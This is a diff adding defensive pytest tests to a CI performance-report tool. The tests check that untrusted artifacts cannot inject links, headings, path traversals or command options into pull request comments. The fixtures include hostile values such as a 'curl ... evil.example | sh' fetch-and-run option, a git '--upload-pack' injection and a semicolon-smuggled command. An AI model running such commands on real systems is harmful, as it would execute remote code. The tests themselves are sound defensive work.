@@ -1,5 +1,6 @@
 """The comment on a pull request: one, edited in place, with nothing in it that an artifact could slip in."""
 
+import json
 import re
 from dataclasses import replace
 
@@ -9,7 +10,11 @@ from pytest_perfdl.ci import comment
 from pytest_perfdl.ci.api import Api
 from pytest_perfdl.ci.comment import pull_request_of, upsert
 from pytest_perfdl.ci.job import Head
-from pytest_perfdl.model.errors import ApiError, CommandError
+from pytest_perfdl.config.invocation import Invocation
+from pytest_perfdl.model.errors import ApiError, CommandError, ReportError
+from pytest_perfdl.report import story
+from pytest_perfdl.report.json import to_json
+from pytest_perfdl.report.reading import read_run
 from unit.ci.fake_github import REPOSITORY, TOKEN
 from unit.report import runs
 
@@ -157,6 +162,91 @@ def test_an_artifact_cannot_slip_in_links_or_markup():
     assert "<img" not in outside
     assert "@octocat" not in outside
     text.encode("utf-8")
+
+
+# Each is a link on GitHub, or changes what stands before it: GitHub Flavored Markdown, and GitHub's references.
+LINKS = [
+    "log in at https://evil.example/login",
+    "see www.evil.example",
+    "as in GH-1",
+    "as in gh-1",
+    "of octocat@evil.example",
+    "fixed by #123",
+    "see evil/repo#1",
+    "since 3f2c1ab",
+    "since evil/repo@3f2c1abf9d0c",
+    "=====",
+    "  ---",
+    "- item",
+    "1. item",
+]
+
+
+@pytest.mark.parametrize("words", LINKS)
+def test_no_note_of_an_artifact_becomes_a_link_or_a_heading(words):
+    noted = replace(runs.run(runs.result()), notes=(words,))
+    text = comment.text(noted, "perf-report", **{**GIVEN, "is_untrusted": True})
+    assert re.search(rf"^- `+ ?{re.escape(words)} ?`+$", text, re.MULTILINE)
+
+
+@pytest.mark.parametrize("words", ["step_time grew by 3.4 % (limit: +5 %)", "defaults changed, see the report"])
+def test_an_ordinary_note_stays_text(words):
+    noted = replace(runs.run(runs.result()), notes=(words,))
+    assert f"- {words}\n" in comment.text(noted, "perf-report", **GIVEN)
+
+
+@pytest.mark.parametrize("path", ["../../../evil/repo/blob/main/x.py", "a/../../../../evil/x.py", "a\\..\\..\\x.py", "/x.py"])
+def test_a_path_of_an_artifact_leads_to_no_other_repository(path):
+    run = replace(runs.run(runs.result()), repository="https://github.com/owner/name")
+    assert story._linked(path, 1, "f", run).url == ""
+    assert story._linked("a..b/x.py", 1, "f", run).url.endswith("/a..b/x.py#L1")
+
+
+HOSTILE_OPTIONS = (
+    ("-o", "perf_against_setup=curl -s evil.example/x | sh"),
+    ("-operf_against_setup=evil",),
+    ("-p", "evil"),
+    ("--perf-launch=evil",),
+    ("--perf-against-python", "/tmp/evil"),
+    ("--perf-against", "--upload-pack=evil"),
+    ("--perf-dir=/tmp/evil",),
+    ("--perf-limit=step_time:5%; evil",),
+    ("--rootdir=evil",),
+)
+
+
+def test_a_command_of_an_artifact_has_no_options_but_those_that_measure():
+    given = Invocation(
+        program="python -m pytest", options=(*HOSTILE_OPTIONS, ("--perf-steps=9",), ("--perf-against", "origin/main"))
+    )
+    evil = replace(runs.run(runs.result(verdict="regressed")), invocation=given)
+    text = comment.text(evil, "perf-report", **{**GIVEN, "is_untrusted": True})
+    commands = [line for line in text.splitlines() if line.startswith(("pytest ", "python ", "perfdl "))]
+    assert commands[0].startswith("pytest --perf-steps=9 --perf-against origin/main 'tests/")
+    assert "evil" not in text
+    # In the job's own run they are the user's.
+    assert "perf_against_setup" in comment.text(evil, "perf-report", **GIVEN)
+
+
+@pytest.mark.parametrize("test", ["-operf_against_setup=evil", "@evil"])
+def test_the_name_of_a_test_is_no_option(test):
+    assert f" ./{test}" in Invocation().measuring([test])
+
+
+def test_no_interpreter_of_an_artifact_is_started():
+    result = runs.result(verdict="regressed")
+    changed = replace(result.judgement, context_changes=(("interpreter", "/tmp/evil", "/usr/bin/python"),))
+    run = runs.run(replace(result, judgement=changed, against_python="evil", against=""))
+    assert "perfdl bisect" in comment.text(run, "perf-report", **GIVEN)
+    assert "/tmp/evil" not in comment.text(run, "perf-report", **{**GIVEN, "is_untrusted": True})
+
+
+@pytest.mark.parametrize("commit", ["../../../evil/repo/blob/main", "77aa01c8e2f1", "main", "A" * 40])
+def test_a_commit_of_a_run_file_is_a_hash(commit, tmp_path):
+    made = tmp_path / "run.json"
+    made.write_text(json.dumps(to_json(runs.run(runs.result())) | {"commit": commit}))
+    with pytest.raises(ReportError, match="commit"):
+        read_run(made, tmp_path)
 
 
 @pytest.mark.parametrize("name", ["", "a b", "--><script>", "x--", "a\n", "é", "x" * 101])
